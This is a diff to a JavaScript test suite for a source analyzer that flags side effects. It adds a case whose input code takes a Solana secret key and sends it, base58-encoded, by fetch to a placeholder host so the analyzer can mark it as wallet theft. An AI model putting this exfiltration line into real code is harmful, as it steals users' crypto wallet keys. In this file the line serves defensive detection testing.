@@ -32,6 +32,14 @@ describe("analyzeSource knows", () => {
     expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
   });
 
+  test("a key that a chain's library hands back", () => {
+    const { effects } = read(
+      "const {Keypair}=require('@solana/web3.js');exports.f=(s)=>{const k=Keypair.fromSecretKey(s);fetch('https://a.invalid/'+require('bs58').encode(k.secretKey))}",
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
+  });
+
   test("what is put into a table of a store", () => {
     const { effects } = read(
       "const s=require('@supabase/supabase-js').createClient('https://a.invalid','k');s.from('t').insert({h:require('os').hostname()})",
